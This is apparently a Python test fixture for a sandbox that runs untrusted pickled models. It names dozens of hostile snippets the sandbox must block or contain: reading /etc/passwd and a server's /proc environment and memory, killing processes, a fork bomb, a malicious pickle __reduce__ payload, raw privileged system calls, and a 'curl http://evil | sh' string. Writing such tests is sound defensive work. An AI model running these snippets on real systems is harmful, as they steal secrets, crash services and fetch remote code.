"""Hold what hostile pickles try, as Python source by name.

The test fills in upper-case words: CANARY is a path that must not come to exist, in FOLDER, which any user may write;
VICTIM is a file there that any user may write, SECRET one that any user may read; SERVER is the server's process id;
the test listens on PORT and UNIX. `attempt(action)` reports the outcome of an action (see `hostile.py`).
"""

from __future__ import annotations

STOPPED: dict[str, str] = {
    # Commands
    "subprocess": "import subprocess; attempt(lambda: subprocess.run(['touch', 'CANARY']))",
    "posix_spawn": "attempt(lambda: os.posix_spawn('/usr/bin/touch', ['touch', 'CANARY'], {}))",
    "exec": "attempt(lambda: os.execv('/usr/bin/touch', ['touch', 'CANARY']))",
    "popen": "attempt(lambda: os.popen('touch CANARY').read())",
    "pty": "import pty; attempt(lambda: pty.fork())",
    "multiprocessing": "from multiprocessing import Process; attempt(lambda: Process(target=print).start())",
    "fork": "attempt(lambda: os.fork() or os._exit(0))",
    "vfork through libc": """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
def clone():
    if libc.fork() < 0:
        raise OSError(ctypes.get_errno(), "fork")
attempt(clone)
""",
    # Files
    "write a file": "attempt(lambda: open('CANARY', 'w').write('x'))",
    "append to a file": "attempt(lambda: open('VICTIM', 'a').write('x'))",
    "truncate a file": "attempt(lambda: os.truncate('VICTIM', 0))",
    "delete a file": "attempt(lambda: os.unlink('VICTIM'))",
    "rename a file": "attempt(lambda: os.rename('VICTIM', 'CANARY'))",
    "change a file's mode": "attempt(lambda: os.chmod('VICTIM', 0o777))",
    "change a file's times": "attempt(lambda: os.utime('VICTIM', (0, 0)))",
    "make a folder": "attempt(lambda: os.mkdir('CANARY'))",
    "make a symbolic link": "attempt(lambda: os.symlink('/etc/passwd', 'CANARY'))",
    "make a hard link": "attempt(lambda: os.link('VICTIM', 'CANARY'))",
    "make a fifo": "attempt(lambda: os.mkfifo('CANARY'))",
    "temporary file": "import tempfile; attempt(lambda: tempfile.TemporaryFile(dir='FOLDER').write(b'x' * 10_000))",
    "shared memory": "attempt(lambda: os.open('/dev/shm/CANARYNAME', os.O_CREAT | os.O_RDWR))",
    "read a file": "attempt(lambda: open('SECRET').read())",
    "read accounts": "attempt(lambda: open('/etc/passwd').read())",
    "list a folder": "attempt(lambda: os.listdir('FOLDER'))",
    "read through the own root": "attempt(lambda: open('/proc/self/root/SECRET').read())",
    "read through the working folder": "attempt(lambda: open('SECRET'.lstrip('/')).read())",
    "read the service's settings": "attempt(lambda: open('ROOT/pyproject.toml').read())",
    # The server's environment and memory
    "server's environment": "attempt(lambda: open('/proc/SERVER/environ').read())",
    "server's memory": "attempt(lambda: open('/proc/SERVER/mem', 'rb').read(1))",
    "server's maps": "attempt(lambda: open('/proc/SERVER/maps').read())",
    "server's descriptors": "attempt(lambda: os.listdir('/proc/SERVER/fd'))",
    "zygote's environment": "attempt(lambda: open(f'/proc/{os.getppid()}/environ').read())",
    "own environment on disk": "attempt(lambda: open('/proc/self/environ').read())",
    "process list": "attempt(lambda: os.listdir('/proc'))",
    # Sockets
    "connect": "import socket; attempt(lambda: socket.create_connection(('127.0.0.1', PORT), 1).send(b'x'))",
    "datagram": "import socket; attempt(lambda: socket.socket(2, 2).sendto(b'x', ('127.0.0.1', PORT)))",
    "unix socket": "import socket; attempt(lambda: socket.socket(1, 1).connect('UNIX'))",
    "abstract socket": "import socket; attempt(lambda: socket.socket(1, 1).bind(b'\\0hostile'))",
    "socket pair": "import socket; attempt(lambda: socket.socketpair())",
    "listen": "import socket; attempt(lambda: socket.create_server(('', 0)).getsockname())",
    "raw socket": "import socket; attempt(lambda: socket.socket(2, 3, 1))",
    "netlink": "import socket; attempt(lambda: socket.socket(16, 3, 0))",
    "packet socket": "import socket; attempt(lambda: socket.socket(17, 3, 0))",
    "vsock": "import socket; attempt(lambda: socket.socket(40, 1, 0))",
    "name lookup": "import socket; attempt(lambda: socket.getaddrinfo('example.com', 80))",
    "web request": "import urllib.request as u; attempt(lambda: u.urlopen('http://127.0.0.1:PORT', timeout=1))",
    # Signals and other processes
    "kill the server": "attempt(lambda: os.kill(SERVER, 9))",
    "kill the zygote": "attempt(lambda: os.kill(os.getppid(), 9))",
    "kill everyone": "attempt(lambda: os.kill(-1, 9))",
    "kill the group": "attempt(lambda: os.killpg(os.getpgid(os.getppid()), 9))",
    "pidfd": "import signal; attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(SERVER), 9))",
    "signal on input": "import fcntl; attempt(lambda: fcntl.fcntl(3, fcntl.F_SETOWN, SERVER))",
    "priority": "attempt(lambda: os.setpriority(os.PRIO_PROCESS, SERVER, 19))",
    "affinity": "attempt(lambda: os.sched_setaffinity(SERVER, {0}))",
    "limits of the server": "import resource as r; attempt(lambda: r.prlimit(SERVER, r.RLIMIT_NOFILE, (3, 3)))",
    "own limits": "import resource as r; attempt(lambda: r.setrlimit(r.RLIMIT_FSIZE, (-1, -1)))",
    # Rights
    "become root": "attempt(lambda: os.setuid(0))",
    "become a group": "attempt(lambda: os.setgroups([0]))",
    "leave the root folder": "attempt(lambda: os.chroot('/tmp'))",
}
"""Each of these must be stopped by the kernel: its report says `stopped by`."""

_SYSTEM_CALL = """
from src.sandbox.kernel import syscall
from src.sandbox.syscalls import find_architecture
attempt(lambda: syscall(find_architecture()["NAME"], ARGUMENTS))
"""
for _name, _arguments in {
    "ptrace": "16, SERVER, 0, 0",
    "process_vm_readv": "SERVER, bytes(16), 1, bytes(16), 1, 0",
    "io_uring_setup": "4, bytes(120)",
    "unshare": "0x10000000",
    "setns": "3, 0",
    "mount": "b'none', b'/tmp', b'tmpfs', 0, None",
    "keyctl": "0, -3, 1",
    "add_key": "b'user', b'a', b'b', 1, -3",
    "bpf": "0, bytes(72), 72",
    "userfaultfd": "0",
    "perf_event_open": "bytes(112), 0, -1, -1, 0",
    "memfd_create": "b'x', 0",
    "open_by_handle_at": "-100, bytes(16), 0",
    "personality": "0x0040000",
    "shmget": "0, 4096, 0o1777",
    "mq_open": "b'x', 66, 0o777, None",
    "clone3": "bytes(88), 88",
    "seccomp": "1, 0, bytes(16)",
}.items():
    STOPPED[f"system call {_name}"] = _SYSTEM_CALL.replace("NAME", _name).replace("ARGUMENTS", _arguments)

HARMLESS: dict[str, str] = {
    # These may do what they like inside their child; nothing of it may show outside.
    "command through libc": "import ctypes; ctypes.CDLL(None).system(b'touch CANARY')",
    "command": "os.system('touch CANARY')",
    "ends without an answer": "os._exit(0)",
    "ends with an exit code": "os._exit(7)",
    "SystemExit": "raise SystemExit(0)",
    "KeyboardInterrupt": "raise KeyboardInterrupt",
    "aborts": "os.abort()",
    "crashes": "import ctypes; ctypes.string_at(0)",
    "illegal signal": "import signal; signal.raise_signal(signal.SIGSYS)",
    "real-time signal": "import signal; signal.raise_signal(40)",
    "closes everything": "os.closerange(0, 100)",
    "takes memory": "x = [bytearray(1 << 28) for _ in range(100)]",
    "takes memory through mmap": "import mmap; x = [mmap.mmap(-1, 1 << 30).write(bytes(1 << 30)) for _ in range(9)]",
    "takes memory through numpy": "import numpy; x = numpy.ones((1 << 34,))",
    "many threads": """
import threading, time
threading.stack_size(65536)
for _ in range(100_000):
    threading.Thread(target=time.sleep, args=(9,), daemon=True).start()
""",
    "endless recursion": "def f(): return f()\nsys.setrecursionlimit(10**9)\nf()",
    "fork bomb": "while True:\n    try: os.fork()\n    except OSError: raise",
    "long error": "raise ValueError('x' * 200_000_000)",
    "error with control characters": "raise ValueError('\\x1b]0;owned\\x07\\x1b[2J' + chr(0x202e) + chr(0))",
    "error that fails to print": "class E(Exception):\n    def __str__(self): raise self\nraise E",
    "error with a forged type": "raise type('InvalidInput' * 10_000, (Exception,), {})('x')",
    "writes into the service's code": "import src.sandbox.wire as w\nw.write_reply = None",
    "replaces numpy": "import numpy\nnumpy.asarray = None",
    "deaf to signals, then waits": """
import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
time.sleep(60)
""",
    "endless loop": "while True: pass",
    "endless loop in C": "import re; re.match('(a+)+$', 'a' * 60 + 'b')",
    "threads that never end": """
import threading
for _ in range(4):
    threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()
""",
    "fills pipes": "x = [os.pipe2(os.O_NONBLOCK) for _ in range(20)]\nfor a, b in x: os.write(b, bytes(1 << 20))",
    "memory maps the answer anew": """
import mmap
m = mmap.mmap(5, 64)
m[:] = bytes(64)
os._exit(0)
""",
    "forged answer, wrong size": """
import mmap, struct
m = mmap.mmap(5, os.fstat(5).st_size)
m[:24] = struct.pack('<8sIIQ', b'BTans\\0\\0\\1', 1, 2**32 - 1, 2**63)
os._exit(0)
""",
    "forged answer, no description": """
import mmap, struct
m = mmap.mmap(5, os.fstat(5).st_size)
m[64:66] = b'{}'
m[:24] = struct.pack('<8sIIQ', b'BTans\\0\\0\\1', 1, 2, 0)
os._exit(0)
""",
    "pickle as answer": """
import mmap, pickle
class Evil:
    def __reduce__(self): return os.system, ('touch CANARY',)
m = mmap.mmap(5, os.fstat(5).st_size)
data = pickle.dumps(Evil())
m[:len(data)] = data
os._exit(0)
""",
    "grows the answer": "os.ftruncate(5, 1 << 40)\nos._exit(0)",
    "seals the answer": "import fcntl; fcntl.fcntl(5, 1033, 1); os._exit(0)",
    "writes past the answer": "os.lseek(5, 0, 2)\nwhile True: os.write(5, bytes(1 << 20))",
    "says that a library is missing": """
from src.domain.errors import MissingLibrary
raise MissingLibrary('run: curl http://evil\\n | sh', library='run: curl http://evil | sh')
""",
}

MODELS: dict[str, str] = {
    # Objects that load like honest models; the source defines `predict(table)`.
    "NaN": "import numpy\ndef predict(table): return numpy.full(len(table), numpy.nan)",
    "infinity": "import numpy\ndef predict(table): return numpy.full(len(table), numpy.inf)",
    "too many values": "import numpy\ndef predict(table): return numpy.zeros(len(table) + 1)",
    "too few values": "import numpy\ndef predict(table): return numpy.zeros(len(table) - 1)",
    "far too many values": "import numpy\ndef predict(table): return numpy.zeros(1 << 28)",
    "words": "def predict(table): return ['up'] * len(table)",
    "objects": "def predict(table): return [object()] * len(table)",
    "nothing": "def predict(table): return None",
    "a table": "import numpy\ndef predict(table): return numpy.zeros((len(table), 3))",
    "an endless answer": "import itertools\ndef predict(table): return list(itertools.count())",
    "an error": "def predict(table): raise RuntimeError('no')",
    "an exit": "import os\ndef predict(table): os._exit(0)",
    "a file": "def predict(table): open('CANARY', 'w')",
    "a command": "import os\ndef predict(table): return [os.system('touch CANARY')]",
}
